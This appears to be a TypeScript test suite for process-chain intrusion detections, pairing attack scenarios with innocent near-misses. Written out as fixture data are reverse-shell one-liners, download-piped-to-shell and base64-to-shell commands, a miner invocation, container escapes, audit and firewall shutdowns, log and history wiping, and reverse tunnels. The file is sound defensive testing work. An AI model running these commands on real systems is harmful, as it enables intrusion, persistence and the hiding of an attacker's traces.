/**
 * The tests of the detections: for each, a case that it must find, and the nearest innocent case that it must not find.
 * Every scenario names all detections that find it, so it is a negative for all others.
 */
import { type Chain, CRON, session } from './chain.ts';

export interface Scenario {
  readonly says: string;
  readonly chain: Chain;
  /** The detections that find it. */
  readonly found: readonly string[];
  /** The detections for which it is the innocent case. */
  readonly spared?: readonly string[];
}

/** As real processes; BIN/NAME is a stand-in of that name, TMP a directory below /tmp. */
export const REAL: readonly Scenario[] = [
  {
    says: 'a PHP worker runs a shell, two processes below the web server',
    chain: ['nginx', 'php-fpm8.2', 'php', ['/bin/sh', '-c', 'exec BIN/whatever']],
    found: ['shell_under_web_server'],
  },
  {
    says: 'busybox as a shell under a web server',
    chain: ['lighttpd', ['argv0=ash', 'busybox', '-c', 'x']],
    found: ['shell_under_web_server'],
  },
  {
    says: 'a shell under an application server that is a script',
    chain: [
      ['python3.11', '/opt/app/bin/gunicorn', 'app:main'],
      ['/bin/sh', '-c', ':'],
    ],
    found: ['shell_under_web_server'],
  },
  {
    says: 'logrotate runs a shell that tells the web server to open its logs again',
    chain: ['cron', 'logrotate', ['/bin/sh', '-c', 'exec BIN/nginx -s reopen']],
    found: [],
    spared: ['shell_under_web_server'],
  },
  {
    says: 'PHP sends mail, and has sendmail write a log where the web server looks',
    chain: ['php-fpm8.2', ['argv0=sh', '/bin/sh', '-c', '/usr/sbin/sendmail -t -i -X/var/www/x.php']],
    found: ['shell_under_web_server'],
  },
  {
    says: 'PHP sends mail',
    chain: ['php-fpm8.2', ['argv0=sh', '/bin/sh', '-c', '/usr/sbin/sendmail -t -i']],
    found: [],
    spared: ['shell_under_web_server'],
  },
  {
    says: 'a web shell leaves a program behind that init adopts',
    chain: ['apache2', 'uid=33 helper', 'orphan backdoor'],
    found: ['left_web_server_by_double_fork'],
  },
  {
    says: 'a web server starts a helper, and stays its parent',
    chain: ['apache2', 'uid=33 rotatelogs'],
    found: [],
    spared: ['left_web_server_by_double_fork'],
  },
  {
    says: 'a daemon that is no server detaches from its parent',
    chain: ['launcher', 'orphan daemon'],
    found: [],
    spared: ['left_web_server_by_double_fork'],
  },
  {
    says: 'curl under a web server',
    chain: ['apache2', 'uid=33 curl -s http://127.0.0.1:9/x'],
    found: ['network_tool_under_web_server'],
  },
  {
    says: 'curl for a health check under a service manager',
    chain: ['manager', 'curl -s http://127.0.0.1:9/health'],
    found: [],
    spared: ['network_tool_under_web_server'],
  },
  {
    says: 'a statement of PostgreSQL runs a program',
    chain: ['postgres', ['/bin/sh', '-c', 'exec BIN/whatever']],
    found: ['interpreter_under_database'],
  },
  {
    says: 'a database is started by a shell',
    chain: ['pg_ctl', ['/bin/sh', '-c', 'exec BIN/postgres']],
    found: [],
    spared: ['interpreter_under_database'],
  },
  {
    says: 'bash opens a connection and gives itself to it',
    chain: ['worker', ['/bin/bash', '-c', 'exec 2>/dev/null 3<>/dev/tcp/127.0.0.1/9 0<&3; exit 0']],
    found: ['reverse_shell'],
  },
  { says: 'nc with a program', chain: ['worker', 'nc -e /bin/sh 127.0.0.1 9'], found: ['reverse_shell'] },
  {
    says: 'ncat with a command',
    chain: ['worker', ['ncat', '127.0.0.1', '9', '--sh-exec', 'sh']],
    found: ['reverse_shell'],
  },
  { says: 'socat with a shell', chain: ['worker', 'socat TCP:127.0.0.1:9 EXEC:/bin/sh'], found: ['reverse_shell'] },
  {
    says: 'python with a socket and a terminal',
    chain: [
      'worker',
      ['python3', '-c', 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'],
    ],
    found: ['reverse_shell'],
  },
  {
    says: 'a shell with a pipe of its own and nc',
    chain: ['worker', ['sh', '-c', 'mkfifo /var/x; cat /var/x | sh -i 2>&1 | nc 127.0.0.1 9 > /var/x']],
    found: ['reverse_shell'],
  },
  {
    says: 'nc sees whether a port is open, python reads from a socket',
    chain: ['worker', 'in-place monitor', 'nc -z -w 1 127.0.0.1 9'],
    found: [],
    spared: ['reverse_shell'],
  },
  {
    says: 'bash sees whether a port is open, and asks this host for its health',
    chain: [
      'worker',
      ['/bin/bash', '-c', 'exec 2>/dev/null; (: </dev/tcp/127.0.0.1/9); exec 3<>/dev/tcp/127.0.0.1/9; exit 0'],
    ],
    found: [],
    spared: ['reverse_shell'],
  },
  { says: 'nc with a shell by its name', chain: ['worker', 'nc -e sh 127.0.0.1 9'], found: ['reverse_shell'] },
  {
    says: 'python asks a server',
    chain: ['worker', ['python3', '-c', 'import socket;socket.create_connection(("127.0.0.1",9))']],
    found: [],
    spared: ['reverse_shell'],
  },
  {
    says: 'a daemon’s command pipes a download into a shell',
    chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -fsSL http://127.0.0.1:9/i | sh']],
    found: ['download_piped_to_shell'],
  },
  {
    says: 'a daemon’s command downloads with curl or wget, and pipes the download into a shell',
    chain: [
      'agent',
      ['/bin/sh', '-c', '(BIN/curl -s http://127.0.0.1:9/i||BIN/wget http://127.0.0.1:9/i)|/usr/bin/env bash -s x'],
    ],
    found: ['download_piped_to_shell'],
  },
  {
    says: 'a daemon’s command searches a download for a word, and runs another command if it is missing',
    chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -s http://127.0.0.1:9/_cat | grep shards || /bin/sh -c :']],
    found: [],
    spared: ['download_piped_to_shell'],
  },
  {
    says: 'a daemon’s command saves a download',
    chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -fsSL http://127.0.0.1:9/i | cat > /dev/null']],
    found: [],
    spared: ['download_piped_to_shell'],
  },
  {
    says: 'a command decodes a script into a shell',
    chain: ['agent', ['/bin/sh', '-c', 'echo Og== | base64 -d | sh']],
    found: ['decoded_text_piped_to_shell'],
  },
  {
    says: 'a command computes a checksum of decoded text',
    chain: [
      'agent',
      ['/bin/sh', '-c', 'echo Og== | base64 -d | sha256sum; echo Og== | base64 -d | python3 -m json.tool'],
    ],
    found: [],
    spared: ['decoded_text_piped_to_shell'],
  },
  {
    says: 'a command decodes a certificate into a file',
    chain: ['agent', ['/bin/sh', '-c', 'echo Og== | base64 -d > /dev/null']],
    found: [],
    spared: ['decoded_text_piped_to_shell'],
  },
  {
    says: 'a web server’s worker executes what was uploaded to /tmp',
    chain: ['nginx', 'php-fpm', 'TMP/payload'],
    found: ['temporary_file_executed_under_service'],
  },
  {
    says: 'a database executes a script in /tmp',
    chain: ['mysqld', 'perl TMP/payload.pl'],
    found: ['temporary_file_executed_under_service', 'interpreter_under_database'],
  },
  {
    says: 'a user’s build executes its own program in /tmp',
    chain: ['make', 'TMP/conftest'],
    found: [],
    spared: ['temporary_file_executed_under_service'],
  },
  {
    says: 'a web server executes a helper of its own',
    chain: ['nginx', 'php-fpm', 'helper TMP/data'],
    found: [],
    spared: ['temporary_file_executed_under_service'],
  },
  { says: 'a program executes a file in memory', chain: ['loader', 'memfd actor'], found: ['memory_file_executed'] },
  {
    says: 'a program executes a file from a disk',
    chain: ['loader', 'actor'],
    found: [],
    spared: ['memory_file_executed', 'deleted_file_executed'],
  },
  {
    says: 'a program executes a file that it has removed',
    chain: ['loader', 'unlinked once'],
    found: ['deleted_file_executed'],
  },
  {
    says: 'a server gives a bare shell to its peer',
    chain: ['someserver', ['/bin/sh']],
    found: ['bare_shell_of_unusual_parent'],
  },
  {
    says: 'a login gives a bare shell to its user',
    chain: ['login', ['/bin/sh']],
    found: [],
    spared: ['bare_shell_of_unusual_parent'],
  },
  {
    says: 'a program runs a command by a shell',
    chain: ['someserver', ['/bin/sh', '-c', ':']],
    found: [],
    spared: ['bare_shell_of_unusual_parent', 'interpreter_gives_bare_shell'],
  },
  {
    says: 'python makes a bare shell a full terminal',
    chain: [['python3', '-c', 'import pty; pty.spawn("/bin/sh")'], ['/bin/sh']],
    found: ['interpreter_gives_bare_shell'],
  },
  {
    says: 'a tool in python offers a shell',
    chain: [['python3', '/usr/bin/tool'], ['/bin/sh']],
    found: [],
    spared: ['interpreter_gives_bare_shell'],
  },
  {
    says: 'a web user runs a setuid program of root',
    chain: ['nginx', 'uid=33 php-fpm', 'setuid helper4'],
    found: ['root_below_web_user', 'setuid_shell_used'],
  },
  {
    says: 'a process in a container enters the host’s namespace',
    chain: ['runc', 'app', 'tool'],
    found: ['container_process_in_host_namespace'],
    spared: ['new_file_executed_in_container'],
  },
  {
    says: 'a container executes a file that it made itself',
    chain: ['runc', 'app', 'later memfd actor'],
    found: ['new_file_executed_in_container', 'memory_file_executed', 'container_process_in_host_namespace'],
  },
  {
    says: 'a hook of the container runtime runs on the host',
    chain: ['runc', 'nvidia-hook'],
    found: [],
    spared: ['container_process_in_host_namespace'],
  },
  {
    says: 'a process in a container stays in its namespace',
    chain: ['newpid runc', 'app', 'held resident'],
    found: [],
    spared: ['container_process_in_host_namespace'],
  },
  {
    says: 'a web server starts its workers as root',
    chain: ['apache2', 'helper'],
    found: [],
    spared: ['root_below_web_user'],
  },
  {
    says: 'a web application asks for root',
    chain: ['nginx', 'uid=33 php-fpm', 'uid=33 sudo -n true'],
    found: ['privilege_change_by_service'],
  },
  {
    says: 'an administrator asks for root to restart the web server',
    chain: ['login', 'sudo manage restart nginx'],
    found: [],
    spared: ['privilege_change_by_service'],
  },
  {
    says: 'a hook of a repository downloads something',
    chain: ['git', ['/bin/sh', '-c', 'BIN/curl http://127.0.0.1:9/; :', '.git/hooks/post-checkout']],
    found: ['git_hook_uses_network'],
  },
  {
    says: 'git itself uses the network',
    chain: ['git', 'git-remote-https', 'ssh git@127.0.0.1'],
    found: [],
    spared: ['git_hook_uses_network'],
  },
  {
    says: 'a web application installs a job',
    chain: ['nginx', 'uid=33 php-fpm', 'uid=33 crontab -'],
    found: ['cron_changed_by_service'],
  },
  {
    says: 'a web application lists its jobs',
    chain: ['nginx', 'php-fpm', 'crontab -l'],
    found: [],
    spared: ['cron_changed_by_service'],
  },
  {
    says: 'an administrator edits the jobs',
    chain: ['login', 'crontab -e'],
    found: [],
    spared: ['cron_changed_by_service'],
  },
  {
    says: 'a database starts a unit by the old script',
    chain: ['redis-server', ['/bin/sh', '/usr/sbin/service', 'x-of-nobody', 'start']],
    found: ['unit_changed_by_service', 'interpreter_under_database'],
  },
  {
    says: 'a database enables a unit',
    chain: ['redis-server', 'systemctl enable x.service'],
    found: ['unit_changed_by_service'],
  },
  {
    says: 'a web application asks for a unit’s state',
    chain: ['php-fpm', 'systemctl is-active x.service'],
    found: [],
    spared: ['unit_changed_by_service'],
  },
  { says: 'a web server adds an account', chain: ['httpd', 'useradd x'], found: ['account_changed_by_service'] },
  {
    says: 'a package adds an account',
    chain: ['dpkg', 'adduser x'],
    found: [],
    spared: ['account_changed_by_service'],
  },
  {
    says: 'a web application starts a container',
    chain: ['nginx', 'php-fpm', 'docker run -v /:/host x'],
    found: ['container_tool_under_service', 'privileged_container_started'],
  },
  {
    says: 'a deployment starts a container',
    chain: ['runner', 'docker run x'],
    found: [],
    spared: ['container_tool_under_service'],
  },
  {
    says: 'a web shell looks around',
    chain: ['nginx', 'php-fpm', 'each id', 'each whoami', 'each uname -a', 'each ip a'],
    found: ['reconnaissance_by_service'],
  },
  {
    says: 'a web application asks for the machine’s name and load, again and again',
    chain: ['nginx', 'php-fpm', 'each uname -r', 'each uptime', 'each uname -r', 'each uptime', 'each uptime'],
    found: [],
    spared: ['reconnaissance_by_service'],
  },
  {
    says: 'a database reads the password hashes',
    chain: ['postgres', 'cat /etc/shadow'],
    found: ['credentials_read_by_service'],
  },
  {
    says: 'a backup reads the password hashes',
    chain: ['backup', 'tar -c /etc/shadow'],
    found: [],
    spared: ['credentials_read_by_service'],
  },
  {
    says: 'a web shell connects to another host',
    chain: ['nginx', 'php-fpm', 'ssh root@127.0.0.1 id'],
    found: ['ssh_client_under_service', 'network_tool_under_web_server'],
  },
  {
    says: 'an administrator connects to another host',
    chain: ['login', 'ssh root@127.0.0.1'],
    found: [],
    spared: ['ssh_client_under_service'],
  },
  {
    says: 'a miner, five processes deep',
    chain: ['a', 'b', 'c', 'd', 'kworkerx -o stratum+tcp://127.0.0.1:3333 -u x'],
    found: ['miner'],
  },
  {
    says: 'a compiler with an output, a client with a user and a port',
    chain: ['a', 'cc -o main -u main -p main.c'],
    found: [],
    spared: ['miner'],
  },
  {
    says: 'a command preloads a library from /tmp',
    chain: ['a', 'env LD_PRELOAD=/tmp/x.so something'],
    found: ['preloaded_library'],
  },
  {
    says: 'a command preloads an allocator of the distribution',
    chain: ['a', 'env LD_PRELOAD=/usr/lib/libjemalloc.so.2 something'],
    found: [],
    spared: ['preloaded_library'],
  },
  {
    says: 'a program calls itself a kernel thread',
    chain: ['a', 'argv0=[kworker/0:1] thing'],
    found: ['pretends_to_be_kernel_thread'],
  },
  {
    says: 'a shell script tests a file',
    chain: ['a', ['argv0=[', 'test', '-f', '/x', ']']],
    found: [],
    spared: ['pretends_to_be_kernel_thread'],
  },
  { says: 'a web server compiles', chain: ['nginx', 'php-fpm', 'gcc-12 x.c'], found: ['compiler_under_service'] },
  { says: 'a build compiles', chain: ['make', 'gcc-12 x.c'], found: [], spared: ['compiler_under_service'] },
  {
    says: 'a Java server runs id',
    chain: ['java -jar app.jar', ['/bin/sh', '-c', 'BIN/id; :']],
    found: ['tool_run_by_java_server'],
  },
  {
    says: 'a build in Java runs id',
    chain: ['java org.gradle.wrapper.GradleWrapperMain', ['/bin/sh', '-c', 'BIN/id; :']],
    found: [],
    spared: ['tool_run_by_java_server'],
  },
  {
    says: 'a web application runs a program text',
    chain: ['nginx', 'php-fpm', ['perl', '-e', 'print 1']],
    found: ['one_liner_under_service'],
  },
  {
    says: 'a web application runs a script of its own',
    chain: ['nginx', 'php-fpm', 'perl /usr/lib/app/script.pl'],
    found: [],
    spared: ['one_liner_under_service'],
  },
  {
    says: 'a web server’s child debugs another process',
    chain: ['nginx', 'php-fpm', 'gdb -p 1'],
    found: ['debugger_attached_by_service'],
  },
  {
    says: 'a developer debugs a program',
    chain: ['login', 'gdb -p 1'],
    found: [],
    spared: ['debugger_attached_by_service'],
  },
  {
    says: 'a web server’s child loads a module',
    chain: ['nginx', 'php-fpm', 'insmod x.ko'],
    found: ['module_loaded_by_hand'],
  },
  {
    says: 'the firewall loads a module',
    chain: ['dockerd', 'firewall', 'modprobe ip_tables'],
    found: [],
    spared: ['module_loaded_by_hand'],
  },
];

/** As a log, below init. */
export const LOGGED: readonly Scenario[] = [
  {
    says: 'in an ssh session, something in /tmp is executed, three shells deep',
    chain: [...session(1000), 'sh', 'sh', '/tmp/.x/tool'],
    found: ['temporary_file_executed_in_ssh_session'],
  },
  {
    says: 'in an ssh session, something in /tmp leaves a child in a session of its own',
    chain: [...session(1000), '/tmp/.x/tool', 'setsid no-exec tool'],
    found: ['temporary_file_executed_in_ssh_session'],
  },
  {
    says: 'in an ssh session, a script beside it is executed in /tmp',
    chain: [...session(1000), 'cd=/tmp/work python3 x.py'],
    found: ['temporary_file_executed_in_ssh_session'],
  },
  {
    says: 'in an ssh session, a file in /tmp is read',
    chain: [...session(1000), 'less /tmp/x'],
    found: [],
    spared: ['temporary_file_executed_in_ssh_session'],
  },
  {
    says: 'a service that init started executes something in /tmp',
    chain: ['/usr/bin/agent', '/tmp/unpacked/helper'],
    found: [],
    spared: ['temporary_file_executed_in_ssh_session', 'temporary_file_executed_by_cron'],
  },
  {
    says: 'a job runs a script in /var/tmp',
    chain: [...CRON, ['sh', '-c', 'sh /var/tmp/.job.sh'], 'sh /var/tmp/.job.sh'],
    found: ['temporary_file_executed_by_cron'],
  },
  {
    says: 'a job runs a script of the distribution',
    chain: [...CRON, ['sh', '-c', 'run-parts /etc/cron.daily'], 'run-parts /etc/cron.daily', 'sh /etc/cron.daily/dpkg'],
    found: [],
    spared: ['temporary_file_executed_by_cron'],
  },
  {
    says: 'an editor under sudo gives a shell',
    chain: [...session(1000), 'euid=0 sudo vim /etc/hosts', 'uid=0 vim.basic /etc/hosts', ['bash', '-c', 'sh'], 'sh'],
    found: ['shell_escape_with_elevated_rights'],
  },
  {
    says: 'find under sudo gives a shell',
    chain: [...session(1000), 'euid=0 sudo find', 'uid=0 find . -exec /bin/sh ;', '/usr/bin/dash'],
    found: ['shell_escape_with_elevated_rights'],
  },
  {
    says: 'an editor without more rights gives a shell',
    chain: [...session(1000), 'vim x', ['bash', '-c', 'make']],
    found: [],
    spared: ['shell_escape_with_elevated_rights'],
  },
  {
    says: 'find under sudo runs a script for each file',
    chain: [...session(1000), 'euid=0 sudo find', 'uid=0 find', ['sh', '-c', 'gzip "$1"', 'sh', 'x']],
    found: [],
    spared: ['shell_escape_with_elevated_rights'],
  },
  {
    says: 'a web user is root two processes later',
    chain: ['/usr/sbin/nginx', 'uid=33 php-fpm8.2', 'exploit', 'uid=0 euid=0 id'],
    found: ['root_below_web_user'],
  },
  {
    says: 'a web user runs a setuid program',
    chain: ['/usr/sbin/nginx', 'uid=33 php-fpm8.2', 'euid=0 helper4'],
    found: ['root_below_web_user'],
  },
  {
    says: 'a web user sends mail by a setuid program',
    chain: ['/usr/sbin/nginx', 'uid=33 php-fpm8.2', 'euid=0 /usr/sbin/sendmail -t'],
    found: [],
    spared: ['root_below_web_user'],
  },
  {
    says: 'a maintainer script downloads something',
    chain: [
      ...session(0),
      'apt-get install x',
      'dpkg --configure x',
      'sh /var/lib/dpkg/info/x.postinst configure',
      'curl http://192.0.2.1/',
    ],
    found: ['package_hook_uses_network'],
  },
  {
    says: 'a hook of npm downloads something',
    chain: [...session(1000), 'node /usr/bin/npm ci', ['sh', '-c', 'node x.js'], 'node x.js', 'wget http://192.0.2.1/'],
    found: ['package_hook_uses_network'],
  },
  {
    says: 'npm starts a program that downloads something',
    chain: [...session(1000), 'node /usr/bin/npm start', ['sh', '-c', 'node x.js'], 'curl http://192.0.2.1/'],
    found: [],
    spared: ['package_hook_uses_network'],
  },
  {
    says: 'apt downloads packages',
    chain: [...session(0), 'apt-get update', '/usr/lib/apt/methods/http'],
    found: [],
    spared: ['package_hook_uses_network'],
  },
  {
    says: 'a container enters the host’s namespaces',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid /app/server', ['sh', '-c', 'x'], 'nsenter -t 1 -m -p sh'],
    found: ['container_escape_tool', 'shell_under_application'],
  },
  {
    says: 'a container makes the host its root',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid /app/server', ['sh', '-c', 'x'], 'chroot /host sh'],
    found: ['container_escape_tool', 'shell_under_application'],
  },
  {
    says: 'an administrator enters a container’s namespaces',
    chain: [...session(0), 'nsenter -t 4242 -n ip a'],
    found: [],
    spared: ['container_escape_tool'],
  },
  {
    says: 'a container runs its server',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid /app/server', 'helper', 'ls /host'],
    found: [],
    spared: ['container_escape_tool'],
  },
  {
    says: 'in an ssh session, auditing is switched off',
    chain: [...session(1000), 'euid=0 sudo x', 'uid=0 auditctl -e 0'],
    found: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, the agent is stopped',
    chain: [...session(0), 'systemctl stop osqueryd'],
    found: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, auditing is stopped by the script that systemctl calls',
    chain: [...session(0), '/usr/bin/bash /sbin/service auditd stop'],
    found: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, the firewall is switched off',
    chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw disable'],
    found: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, a user reads the state of the firewall',
    chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw status', '/usr/bin/bash /sbin/service auditd status'],
    found: [],
    spared: ['defences_switched_off'],
  },
  {
    says: 'the firewall is loaded at the boot',
    chain: ['/usr/sbin/firewall-init', 'iptables -F'],
    found: [],
    spared: ['defences_switched_off'],
  },
  {
    says: 'a package stops the agent to replace it',
    chain: [...session(0), 'apt-get install x', 'dpkg --unpack x', 'sh x.prerm', 'systemctl stop osqueryd.service'],
    found: [],
    spared: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, the history is removed',
    chain: [...session(1000), 'rm -f /home/x/.bash_history'],
    found: ['traces_removed'],
  },
  {
    says: 'in an ssh session, a user’s program called logrotate removes the history',
    chain: [...session(1000), 'logrotate /home/x/conf', 'rm -f /home/x/.bash_history'],
    found: ['traces_removed'],
  },
  {
    says: 'in an ssh session, a user’s program called apt switches auditing off',
    chain: [...session(1000), 'apt install x', 'auditctl -e 0'],
    found: ['defences_switched_off'],
  },
  {
    says: 'in an ssh session, a user’s program called runc executes a file in memory',
    chain: [...session(1000), 'runc x', '/memfd:runc_cloned:/proc/self/exe'],
    found: ['memory_file_executed'],
  },
  {
    says: 'in an ssh session, lines are removed from a log',
    chain: [...session(1000), ['sed', '-i', '/203.0.113/d', '/var/log/auth.log']],
    found: ['traces_removed'],
  },
  {
    says: 'in an ssh session, lines of a log are read, and a copy is kept',
    chain: [...session(1000), ['sed', '-n', '1,9p', '/var/log/syslog'], 'cp -a /var/log/syslog /root'],
    found: [],
    spared: ['traces_removed'],
  },
  {
    says: 'temporary files are removed at the boot',
    chain: ['/usr/bin/systemd-tmpfiles --remove', 'rm /var/log/wtmp'],
    found: [],
    spared: ['traces_removed'],
  },
  {
    says: 'a web server whose file an upgrade has replaced runs a shell',
    chain: [['/usr/sbin/nginx (deleted)'], ['sh', '-c', 'x']],
    found: ['shell_under_web_server', 'deleted_file_executed'],
  },
  {
    says: 'logrotate empties a log',
    chain: [...CRON, 'logrotate /etc/logrotate.conf', ['sh', '-c', 'x'], 'cp /dev/null /var/log/auth.log'],
    found: [],
    spared: ['traces_removed'],
  },
  {
    says: 'in an ssh session, a log is read',
    chain: [...session(1000), 'tail /var/log/auth.log'],
    found: [],
    spared: ['traces_removed'],
  },
  {
    says: 'a user changes account twice, to root',
    chain: [...session(1000), 'euid=0 su deploy', 'uid=1001 bash', 'euid=0 sudo -i', 'uid=0 bash'],
    found: ['root_by_several_changes_of_user'],
  },
  {
    says: 'an administrator becomes root by sudo, which puts a process of its own between',
    chain: [...session(1000), 'euid=0 sudo -i', 'uid=0 no-exec sudo', 'uid=0 bash'],
    found: [],
    spared: ['root_by_several_changes_of_user'],
  },
  {
    says: 'in an ssh session, /tmp is offered to others',
    chain: [...session(1000), 'cd=/tmp/out python3 -m http.server 8000'],
    found: ['file_server_in_ssh_session'],
  },
  {
    says: 'in an ssh session, a developer looks at a page',
    chain: [...session(1000), 'cd=/home/x/site python3 -m http.server 8000'],
    found: [],
    spared: ['file_server_in_ssh_session'],
  },
  {
    says: 'in an ssh session, a tunnel is opened',
    chain: [...session(1000), 'ssh -f -N -R 2222:localhost:22 x@192.0.2.1'],
    found: ['tunnel'],
  },
  {
    says: 'cron keeps a tunnel open',
    chain: [...CRON, ['sh', '-c', 'chisel'], 'chisel client 192.0.2.1 R:socks'],
    found: ['tunnel'],
  },
  { says: 'a unit is a tunnel', chain: ['/usr/bin/frpc -c /etc/frpc.ini'], found: [], spared: ['tunnel'] },
  {
    says: 'in an ssh session, a user connects to another host',
    chain: [...session(1000), 'ssh x@192.0.2.1'],
    found: [],
    spared: ['tunnel'],
  },
];
